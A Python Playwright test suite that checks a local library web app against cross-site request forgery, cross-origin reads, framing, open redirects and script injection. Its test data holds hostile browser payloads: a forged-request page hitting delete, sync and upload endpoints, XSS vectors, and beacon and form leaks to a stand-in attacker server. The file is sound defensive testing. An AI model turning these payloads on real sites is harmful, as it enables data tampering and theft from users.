"""What pages of other sites try through the person's browser, and what runs in ours."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from browser_parts import HOSTILE_NAME, VIDEO, Server, go_to, row, wait_until_indexed
from playwright.sync_api import Browser, Page

SAMPLES = Path(__file__).resolve().parents[2] / "data" / "samples"

# The same script in a page, in a frame without an origin, and from a link.
ATTACK = """
<!doctype html><title>waiting</title><body><script>
const target = TARGET, told = {};
const send = (name, path, options) => fetch(target + path, options)
  .then(async (r) => (told[name] = r.type === 'opaque' ? 'opaque' : await r.text()))
  .catch(() => (told[name] = 'failed'));
const form = (fields) => {
  const f = new FormData();
  for (const k in fields) f.append(k, fields[k]);
  return f;
};
const post = (body, more) => ({method: 'POST', body, credentials: 'include', ...more});
const file = new File(['# Planted\\n\\nThe planted note.'], 'planted.md');
const opaque = {mode: 'no-cors'};
const join = JSON.stringify({fn_index: 0, data: [], session_hash: 'x'});
(async () => {
  for (const [how, more] of [['cors', {}], ['opaque', opaque]]) {
    await send('status ' + how, '/api/status', {credentials: 'include', ...more});
    await send('forget ' + how, '/api/forget', post(form({folder: LIBRARY}), more));
    await send('sync ' + how, '/api/sync', post('{"folders": ["/etc"]}', more));
    await send('plant ' + how, '/api/upload', post(form({file}), more));
    await send('upload ' + how, '/gradio_api/upload', post(form({files: file}), more));
    await send('join ' + how, '/gradio_api/queue/join', post(join, more));
    await send('original ' + how, ORIGINAL, {credentials: 'include', ...more});
  }
  const headers = {'X-KB-Request': '1'};
  await send('header', '/api/forget', post(form({folder: LIBRARY}), {headers}));
  const load = (tag, path) => new Promise((done) => {
    const e = document.createElement(tag);
    e.onload = () => done(told[tag] = 'loaded');
    e.onerror = () => done(told[tag] = 'failed');
    setTimeout(() => done(), 1500);
    e.src = target + path;
    document.body.append(e);
  });
  await load('img', PICTURE);
  await load('script', '/media/static/app.js');
  await load('video', ORIGINAL);
  for (const [path, fields] of [['/api/forget', {folder: LIBRARY}], ['/api/sync', {}]]) {
    const f = document.createElement('form');
    Object.assign(f, {method: 'POST', action: target + path, target: 'sink'});
    for (const name in fields) {
      f.append(Object.assign(document.createElement('input'), {name, value: fields[name]}));
    }
    document.body.append(f); f.submit();
  }
  await new Promise((done) => setTimeout(done, 500));
  top.postMessage(told, '*');
  window.told = told; document.title = 'done';
})();
</script><iframe name="sink"></iframe>
"""


@dataclass
class Elsewhere:
    """A web server of somebody else's on this machine, at another port."""

    port: int
    pages: dict[str, str] = field(default_factory=dict)
    requests: list[str] = field(default_factory=list)

    def url(self, host: str, path: str = "/") -> str:
        return f"http://{host}:{self.port}{path}"


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            there.requests.append(self.path)
            page = there.pages.get(self.path.split("?")[0])
            self.send_response(200 if page is not None else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write((page or "").encode())

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        there = Elsewhere(server.server_address[1])
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield there
        server.shutdown()


@pytest.fixture(scope="module")
def ours(browser: Browser, server: Server) -> Iterator[Page]:
    """The page, open in a browser on the Library, with everything indexed."""
    context = browser.new_context()
    ours = context.new_page()
    ours.goto(server.url)
    go_to(ours, "Library")
    wait_until_indexed(ours, VIDEO, 120_000)
    wait_until_indexed(ours, HOSTILE_NAME, 120_000)
    yield ours
    context.close()


@pytest.fixture
def victim(ours: Page) -> Iterator[Page]:
    """Another page in the same browser."""
    page = ours.context.new_page()
    yield page
    page.close()


@pytest.fixture
def put(server: Server, ours: Page) -> Iterator[Callable[[str, bytes], None]]:
    """Puts a file into the library for the time of a test, and waits until it is indexed."""
    names: list[str] = []

    def put(name: str, content: bytes) -> None:
        (server.library / name).write_bytes(content)
        names.append(name)
        wait_until_indexed(ours, name, 120_000)

    yield put
    for name in names:
        (server.library / name).unlink()


def original(ours: Page, name: str) -> str:
    """The path of a file's address, as the Library page links it."""
    href = row(ours, name).locator("a.kb-link").get_attribute("href")
    url = httpx.URL(ours.url).join(href or "")
    assert httpx.get(url).status_code == 200
    return url.path


def attack(server: Server, ours: Page) -> str:
    constants = {
        "TARGET": server.url,
        "LIBRARY": str(server.library),
        "ORIGINAL": original(ours, HOSTILE_NAME),
        "PICTURE": "/media/static/icon.svg",
    }
    page = ATTACK
    for name, value in constants.items():
        page = page.replace(name, json.dumps(value))
    return page


def state(server: Server) -> tuple[object, list[str]]:
    with httpx.Client(base_url=server.url) as client:
        counts = client.get("/api/status").json()["counts"]["indexed"]
    return counts, sorted(path.name for path in server.library.rglob("*"))


def assert_nothing_came_of_it(told: dict[str, str]) -> None:
    assert len(told) == 18, told
    for name, result in told.items():
        # What can't be read is opaque, whatever the answer was.
        allowed = {"failed", "opaque"} if name.endswith("opaque") else {"failed"}
        assert result in allowed, name


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["same site", "another site"])
@pytest.mark.parametrize("is_framed", [False, True], ids=["page", "sandboxed frame"])
def test_other_pages_read_and_change_nothing(
    server: Server, ours: Page, victim: Page, elsewhere: Elsewhere, host: str, is_framed: bool
) -> None:
    before = state(server)
    elsewhere.pages["/attack"] = attack(server, ours)
    # A frame in a sandbox has the origin "null".
    elsewhere.pages["/frame"] = (
        "<script>addEventListener('message', (e) => "
        "{ window.told = e.data; document.title = 'done'; })</script>"
        '<iframe sandbox="allow-scripts allow-forms" src="/attack"></iframe>'
    )
    victim.goto(elsewhere.url(host, "/frame" if is_framed else "/attack"))
    victim.wait_for_function("document.title === 'done'")
    assert_nothing_came_of_it(victim.evaluate("window.told"))
    assert state(server) == before


def test_no_page_shows_ours_in_a_frame(server: Server, victim: Page, elsewhere: Elsewhere) -> None:
    elsewhere.pages["/"] = "".join(
        f'<{tag} {name}="{server.url}{path}"></{tag}>'
        for tag, name in (("iframe", "src"), ("object", "data"), ("embed", "src"))
        for path in ("/", "/api/status")
    )
    victim.goto(elsewhere.url("localhost"))
    victim.wait_for_timeout(1000)
    for frame in victim.frames[1:]:
        assert "question" not in frame.content().lower()
        assert "n_files" not in frame.content()


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file={url}",
        "/gradio_api/file={quoted}",
        "/gradio_api/proxy={url}",
        "//127.0.0.1:{port}/evil",
        "/assets//127.0.0.1:{port}/evil",
        "/?deep_link={url}",
        "/logout?next={url}",
        "/gradio_api/stream/x/y/1/playlist.m3u8?__sign={quoted}",
    ],
)
def test_a_link_to_us_runs_nothing_of_theirs(
    server: Server, victim: Page, elsewhere: Elsewhere, path: str
) -> None:
    elsewhere.pages["/evil"] = "<script>document.title = 'ran'</script>"
    url = elsewhere.url("127.0.0.1", "/evil")
    link = server.url + path.format(url=url, quoted=quote(url, safe=""), port=elsewhere.port)
    elsewhere.pages["/"] = f'<a id="link" href="{link}">a prize</a>'
    victim.goto(elsewhere.url("localhost"))
    victim.locator("#link").click()
    victim.wait_for_load_state()
    assert victim.url.startswith(server.url)
    assert victim.title() != "ran"
    # Typed in, the browser calls it nobody's; it runs nothing then, either.
    victim.goto(link)
    assert victim.title() != "ran"
    assert "/evil" not in elsewhere.requests


def test_a_link_to_the_page_itself_opens_it(
    server: Server, victim: Page, elsewhere: Elsewhere
) -> None:
    elsewhere.pages["/"] = f'<a id="link" href="{server.url}/">your library</a>'
    victim.goto(elsewhere.url("localhost"))
    victim.locator("#link").click()
    victim.locator("#kb-question textarea").wait_for()
    assert victim.evaluate("window.opener") is None


def test_markup_that_got_into_the_page_would_not_run(
    server: Server,
    ours: Page,
    victim: Page,
    elsewhere: Elsewhere,
    put: Callable[[str, bytes], None],
) -> None:
    """Nothing puts any there; were it so, the policy would still hold."""
    put("code.js", b"window.hacked = 'file'; // a script of the library")
    victim.goto(server.url)
    victim.locator("#kb-question textarea").wait_for()
    script = original(ours, "code.js")
    victim.evaluate(
        """([script, elsewhere]) => {
          const html = `<img src=x onerror="window.hacked='handler'">
            <a id=js href="javascript:window.hacked='link'">a</a>
            <iframe srcdoc="<script>parent.hacked='srcdoc'</script>"></iframe>
            <form id=leak action="${elsewhere}/leak"><input name=a></form>
            <img src="${elsewhere}/leak.png"><link rel=stylesheet href="${elsewhere}/leak.css">
            <svg><use href="${elsewhere}/leak.svg#x"/></svg>
            <object data="${script}"></object><base href="${elsewhere}/">
            <script>window.hacked='inline'</script>`;
          const box = document.createElement('div');
          box.innerHTML = html;
          document.body.append(box);
          const range = document.createRange().createContextualFragment(
            `<script src="${script}"></script><script>window.hacked='fragment'</script>`);
          document.body.append(range);
          document.querySelector('#js').click();
          document.querySelector('#leak').submit();
          fetch(elsewhere + '/leak.json').catch(() => {});
          navigator.sendBeacon(elsewhere + '/leak.beacon');
          try { new Worker(script); } catch {}
          navigator.serviceWorker?.register(script).catch(() => {});
        }""",
        [server.url + script, elsewhere.url("127.0.0.1", "")],
    )
    victim.wait_for_timeout(1000)
    assert victim.evaluate("window.hacked") is None
    assert victim.url.startswith(server.url)
    assert elsewhere.requests == []
    assert victim.evaluate("navigator.serviceWorker.getRegistrations().then((r) => r.length)") == 0


HTML = """<!doctype html><title>a document</title><p>Walnut shells.</p>
<a id="js" href="javascript:document.title='ran'">one</a>
<a id="data" href="data:text/html,<script>document.title='ran'</script>">two</a>
<script>document.title = 'ran'</script><img src="x" onerror="document.title='ran'">
<form id="form" method="POST" action="/api/sync"><button>three</button></form>
<meta http-equiv="refresh" content="0;url=javascript:document.title='ran'">
"""


def test_a_document_that_is_opened_runs_nothing(
    server: Server, ours: Page, victim: Page, put: Callable[[str, bytes], None]
) -> None:
    put("walnut.html", HTML.encode())
    document = server.url + original(ours, "walnut.html")
    for link in ("#js", "#data", "button"):
        victim.goto(document)
        assert victim.title() == "a document"
        victim.locator(link).click()
        victim.wait_for_timeout(300)
        assert victim.title() != "ran", link


def test_originals_are_shown_under_their_policies(
    server: Server, ours: Page, victim: Page, put: Callable[[str, bytes], None]
) -> None:
    picture = SAMPLES / "pictures" / "products" / "Ember kettle.jpg"
    pdf = SAMPLES / "Clean Air Quarterly Spring 2026.pdf"
    for path in (picture, pdf):
        put(path.name, path.read_bytes())

    victim.goto(server.url + original(ours, picture.name))
    assert victim.locator("img").evaluate("(image) => image.naturalWidth") == 1200

    victim.goto(server.url + original(ours, VIDEO))
    video = victim.locator("video")
    for _ in range(50):
        if video.evaluate("(video) => video.videoWidth"):
            break
        victim.wait_for_timeout(100)
    assert video.evaluate("(video) => video.videoWidth") == 640

    asked: list[str] = []
    victim.on("response", lambda response: asked.append(response.url))
    victim.goto(server.url + original(ours, pdf.name))
    victim.wait_for_timeout(1500)
    # Chromium's viewer is a page of its own, which has come and shows the file.
    assert any("main.js" in url and url.startswith("chrome-extension:") for url in asked)
